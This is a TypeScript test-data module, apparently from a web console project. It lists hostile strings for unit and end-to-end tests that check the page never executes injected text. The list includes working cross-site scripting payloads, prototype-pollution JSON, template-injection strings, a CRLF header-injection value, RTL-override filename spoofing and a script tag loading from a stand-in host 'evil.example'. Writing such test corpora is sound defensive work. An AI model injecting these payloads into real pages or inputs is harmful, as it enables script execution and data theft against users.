/**
 * Hostile page text (issue 12 item 3): what a buyer, a product listing or a back-office cell can
 * put on a console page, and what a seller can put in a phrase. Each entry has a label (for test
 * names and failure messages) and the text. Pure data: unit tests and e2e specs both use it.
 *
 * Every script-looking entry that could run sets `window.__pwned` (never `alert`, which a test
 * could only see as a dialog): a test asserts the canary stays unset in the page's main world.
 */

export interface HostileString {
  label: string;
  text: string;
  /** Large enough that a test should use it a few times, not in every slot. */
  huge?: true;
}

const PWN = 'window.__pwned=1';
/** One megabyte of text with no space in it (a line nothing can wrap at). */
const MEGABYTE = 'A'.repeat(1 << 20);

export const HOSTILE_STRINGS: readonly HostileString[] = [
  // ── markup and script injection ──
  { label: 'img onerror', text: `<img src=x onerror=${PWN}>` },
  { label: 'img onerror quoted', text: `"><img src=x onerror="${PWN}">` },
  { label: 'script tag', text: `<script>${PWN}</script>` },
  { label: 'script src', text: '<script src="https://evil.example/x.js"></script>' },
  { label: 'svg onload', text: `<svg onload=${PWN}>` },
  { label: 'svg script', text: `<svg><script>${PWN}</script></svg>` },
  { label: 'iframe srcdoc', text: `<iframe srcdoc="<script>parent.${PWN}</script>"></iframe>` },
  { label: 'details ontoggle', text: `<details open ontoggle=${PWN}>` },
  { label: 'body onload', text: `<body onload=${PWN}>` },
  { label: 'style breakout', text: `</style><img src=x onerror=${PWN}>` },
  { label: 'textarea breakout', text: `</textarea><img src=x onerror=${PWN}>` },
  { label: 'title breakout', text: `</title><script>${PWN}</script>` },
  { label: 'attribute breakout double', text: `" onmouseover="${PWN}" x="` },
  { label: 'attribute breakout single', text: `' onfocus='${PWN}' autofocus='` },
  { label: 'html comment', text: `<!--<img src="--><img src=x onerror=${PWN}>-->` },
  { label: 'entity-encoded', text: `&lt;img src=x onerror=${PWN}&gt; &amp;amp; &#60;b&#62;` },
  { label: 'mixed-case tag', text: `<ScRiPt>${PWN}</sCrIpT>` },
  { label: 'template tag', text: `<template><img src=x onerror=${PWN}></template>` },
  // ── links ──
  { label: 'javascript link', text: `javascript:${PWN}` },
  { label: 'javascript link with whitespace', text: ` \tjava\nscript:${PWN}` },
  { label: 'anchor javascript href', text: `<a href="javascript:${PWN}">点我领券</a>` },
  { label: 'data URL', text: `data:text/html,<script>${PWN}</script>` },
  { label: 'vbscript link', text: 'vbscript:msgbox(1)' },
  // ── prototype names ──
  { label: '__proto__', text: '__proto__' },
  { label: 'constructor', text: 'constructor' },
  { label: 'toString', text: 'toString' },
  { label: 'hasOwnProperty', text: 'hasOwnProperty' },
  { label: 'valueOf', text: 'valueOf' },
  { label: 'prototype', text: 'prototype' },
  { label: 'JSON proto pollution', text: '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}' },
  // ── template-looking text ──
  { label: 'phrase variable', text: '{买家}' },
  { label: 'proto variables', text: '{__proto__}{constructor}{toString}{hasOwnProperty}' },
  { label: 'prompt variable', text: '{尺码?}{constructor？}' },
  { label: 'JS template', text: '${x}${alert(1)}`${PWN}`' },
  { label: 'mustache', text: '{{x}}{{constructor.constructor("window.__pwned=1")()}}' },
  { label: 'i18n placeholder', text: '{title}{names}{file}{0}' },
  { label: 'regex replacement tokens', text: "$& $' $` $1 $$" },
  { label: 'format string', text: '%s%s%s%n %d %x' },
  // ── CSS and selectors ──
  { label: 'CSS selector breaker', text: '"]) , * { display:none } [data-x="' },
  { label: 'CSS escape', text: '\\" ] div:has(*) ::before \\000041' },
  { label: 'CSS expression', text: 'x</style><style>*{background:url("javascript:alert(1)")}</style>' },
  // ── numbers ──
  { label: 'NaN', text: 'NaN' },
  { label: 'Infinity', text: 'Infinity' },
  { label: 'minus zero', text: '-0' },
  { label: 'huge number', text: '1e309' },
  { label: 'hex and octal', text: '0x1F 0o17 0b11 007' },
  { label: 'null and undefined', text: 'null' },
  { label: 'undefined', text: 'undefined' },
  // ── control characters and invisible text ──
  { label: 'NUL', text: 'a\u0000b\u0000' },
  { label: 'C0 controls', text: Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join('') + 'end' },
  { label: 'DEL and C1', text: '\u007f\u0080\u0085\u009f' },
  { label: 'line and paragraph separators', text: 'a\u2028b\u2029c' },
  { label: 'CRLF injection', text: 'line1\r\nSet-Cookie: x=1\r\n\r\n' },
  { label: 'RTL override', text: '\u202Egnp.exe\u202C 买家' },
  { label: 'bidi isolates', text: '\u2066\u2067\u2068abc\u2069\u200F\u200E' },
  { label: 'zero-width', text: '\u200B\u200C\u200D\uFEFF包\u200B邮\u2060吗' },
  { label: 'only whitespace', text: ' \u3000\u00A0\t ' },
  { label: 'empty', text: '' },
  // ── emoji and surrogates ──
  { label: 'emoji', text: '😀🎉👍🏽' },
  { label: 'ZWJ family', text: '👨‍👩‍👧‍👦👩🏽‍💻🏳️‍🌈' },
  { label: 'flags and keycaps', text: '🇨🇳🇺🇸1️⃣#️⃣' },
  { label: 'lone high surrogate', text: 'a\uD83Db' },
  { label: 'lone low surrogate', text: 'a\uDE00b' },
  { label: 'reversed surrogates', text: '\uDE00\uD83D' },
  { label: 'combining marks', text: 'Z\u0351\u0346\u036B\u0346\u0300\u0363\u036E\u0316\u032C\u0359a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308' },
  { label: 'noncharacters', text: '\uFFFE\uFFFF\uFDD0' },
  { label: 'full-width braces and brackets', text: '｛买家｝【】《》<>＜script＞' },
  // ── size ──
  { label: 'long line without spaces', text: 'x'.repeat(20_000) },
  { label: 'many lines', text: '行\n'.repeat(5_000) },
  { label: 'deep markup', text: '<div>'.repeat(2_000) + 'deep' + '</div>'.repeat(2_000) },
  { label: '1 MB', text: MEGABYTE, huge: true },
  { label: '1 MB with markup', text: `<img src=x onerror=${PWN}>` + '😀'.repeat(1 << 18), huge: true },
];

/** The corpus without the huge entries (used in every slot; the huge ones a few times). */
export const HOSTILE_SMALL: readonly HostileString[] = HOSTILE_STRINGS.filter((s) => !s.huge);
export const HOSTILE_HUGE: readonly HostileString[] = HOSTILE_STRINGS.filter((s) => s.huge);

/** Marks left by text that ran: a property on the main world's `window`, and prototype pollution. */
export const CANARY = '__pwned';
export const POLLUTED = 'polluted';
